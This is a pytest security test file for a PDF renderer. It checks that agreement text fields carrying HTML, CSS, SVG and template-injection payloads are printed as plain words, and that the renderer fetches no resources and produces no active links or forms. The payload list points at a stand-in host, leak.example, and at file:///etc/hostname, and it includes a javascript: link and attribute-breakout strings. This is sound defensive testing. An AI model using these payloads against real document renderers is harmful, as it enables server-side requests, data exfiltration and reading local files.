"""Nothing in a document reaches outside it: not a file, not the network, not a link."""

import io
from itertools import cycle
from typing import Any

import pikepdf
import pytest

from microbiz_desktop.domain.edition import Edition
from microbiz_desktop.domain.errors import BadInput
from microbiz_desktop.domain.plain import from_plain, to_plain
from microbiz_desktop.domain.text import AgreementText
from microbiz_desktop.rendering.fetching import RecordingFetcher, Refused
from microbiz_desktop.rendering.pdf import Renderer
from tests import builders_text as build

from .printed_words import text_matches

_OUT = "http://leak.example/x"
_XLINK = "http://www.w3.org/1999/xlink"
_FILE = "file:///etc/hostname"
#: Each would fetch or link somewhere if it were taken for markup.
VECTORS = (
    f'<img src="{_OUT}">',
    f'<img src="{_FILE}">',
    '<img src="//leak.example/x" alt="x">',
    f'<img srcset="{_OUT} 2x" src="{_OUT}">',
    f'<picture><source srcset="{_OUT}"><img src="{_OUT}"></picture>',
    f'<link rel="stylesheet" href="{_OUT}">',
    f'<link rel="stylesheet" href="{_FILE}">',
    f'<link rel="attachment" href="{_FILE}">',
    f'<link rel="icon" href="{_OUT}">',
    f'<style>@import url("{_OUT}");</style>',
    f'<style>@import "{_FILE}";</style>',
    f'<style>body{{background:url({_OUT})}}</style>',
    f'<style>p::before{{content:url({_OUT})}}</style>',
    f'<style>li{{list-style-image:url({_OUT})}}</style>',
    f'<style>@font-face{{font-family:a;src:url({_OUT})}}*{{font-family:a}}</style>',
    f'<style>@font-face{{font-family:a;src:url({_FILE})}}*{{font-family:a}}</style>',
    f'<style>@page{{background:url({_OUT})}}</style>',
    f'<style>@page{{@top-left{{content:url({_OUT})}}}}</style>',
    f'<style>*{{border-image:url({_OUT}) 1}}</style>',
    f'<style>*{{mask-image:url({_OUT})}}</style>',
    f'<style>@color-profile --a{{src:url({_OUT})}}p{{color:color(--a 1 1 1)}}</style>',
    f'<p style="background:url({_OUT})">x</p>',
    f'<p style="content:url({_FILE})">x</p>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{_OUT}" width="9" height="9"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="{_XLINK}"><image x:href="{_FILE}"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><use href="{_OUT}#a"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url({_OUT});</style><rect/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url({_OUT}#a)" width="9"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><text font-family="a" href="{_OUT}">x</text></svg>',
    f'<object data="{_OUT}">x</object>',
    f'<object data="{_FILE}" type="image/png"></object>',
    f'<embed src="{_OUT}">',
    f'<iframe src="{_OUT}"></iframe>',
    f'<input type="image" src="{_OUT}">',
    f'<video poster="{_OUT}" src="{_OUT}"></video>',
    f'<a href="{_OUT}">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    f'<a rel="attachment" href="{_FILE}">x</a>',
    f'<a href="{_FILE}">x</a>',
    f'<form action="{_OUT}"><input name="a"><button>Go</button></form>',
    f'<base href="{_OUT}"><img src="a.png">',
    f'<meta http-equiv="refresh" content="0; url={_OUT}">',
    f'<script src="{_OUT}"></script>',
    f'"><img src={_OUT}><p class="',
    f"' onload='x' style='background:url({_OUT})",
    f"{{{{ ''.__class__ }}}}{{% include '{_FILE}' %}}",
    f"<!--><img src={_OUT}>-->",
    f"<![CDATA[<img src={_OUT}>]]>",
    f"&lt;img src={_OUT}&gt;",
    f"url({_OUT}) \\0000ab); @import '{_OUT}';",
)  # fmt: skip
#: Fields that are names for the program and not words for the reader.
_NOT_WORDS = {
    "number",
    "letter",
    "id",
    "key",
    "logo",
    "unit",
    "kind",
    "target",
    "paper",
    "format",
    "align",
    "party",
}
_NOT_WORDS |= {"standing", "made", "fingerprint", "relationship", "mime", "signatory"}


def _poisoned(data: Any, vectors: Any, name: str = "") -> Any:
    """The same plain data with a vector behind every word that a reader sees."""
    if isinstance(data, dict):
        return {key: _poisoned(value, vectors, key) for key, value in data.items()}
    if isinstance(data, list):
        return [_poisoned(item, vectors, name) for item in data]
    if isinstance(data, str) and name not in _NOT_WORDS and name != "type":
        return f"{data} {next(vectors)}"
    return data


@pytest.mark.parametrize("shift", [0, 17, 34])
def test_markup_in_any_field_is_printed_as_words(renderer: Renderer, shift: int) -> None:
    vectors = cycle((*VECTORS[shift:], *VECTORS[:shift]))
    clean = build.agreement(3)
    data = _poisoned(to_plain(clean), vectors)
    data["language"] = "en-GB"
    text = from_plain(AgreementText, data)
    edition = from_plain(Edition, _poisoned(to_plain(build.executed(clean)), vectors))
    file = renderer.render(text, edition, build.logos(3))
    assert text_matches(file.pdf, text, edition) == ()
    document = pikepdf.open(io.BytesIO(file.pdf))
    links = [note for page in document.pages for note in page.get("/Annots", ())]
    assert all("/A" not in link and "/Dest" in link for link in links)
    assert len(document.attachments) == len(edition.attachments)
    assert not {"/AcroForm", "/OpenAction", "/AA"} & set(document.Root.keys())


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.allow_logs  # the page maker says what it could not load
def test_even_as_markup_nothing_is_fetched(renderer: Renderer, vector: str) -> None:
    """Were a vector to get through, the fetcher is the second wall."""
    fetcher = RecordingFetcher({})
    source = f"<html lang=en><body><p>before</p>{vector}</body></html>"
    try:
        document = renderer._lay_out(source, fetcher)
        pdf = document.write_pdf()
    except Refused:
        assert fetcher.refused
        return
    with pikepdf.open(io.BytesIO(pdf)) as file:
        assert not file.attachments
        assert not any(page.get_images() for page in file.pages)


@pytest.mark.allow_logs  # as above
def test_the_vectors_would_fetch(renderer: Renderer) -> None:
    """Many of them do ask for something, so that the tests above mean something."""
    asked = 0
    for vector in VECTORS:
        fetcher = RecordingFetcher({})
        try:
            renderer._lay_out(f"<html lang=en><body>{vector}", fetcher).write_pdf()
        except Refused:
            asked += 1
    assert asked >= 15


def test_a_logo_address_outside_the_document_is_refused(renderer: Renderer) -> None:
    text = build.agreement(3)
    data: dict[str, Any] = to_plain(text)
    data["parties"][0]["logo"] = _OUT
    with pytest.raises(BadInput, match="missing"):
        renderer.render(from_plain(AgreementText, data), build.offered(), build.logos(3))
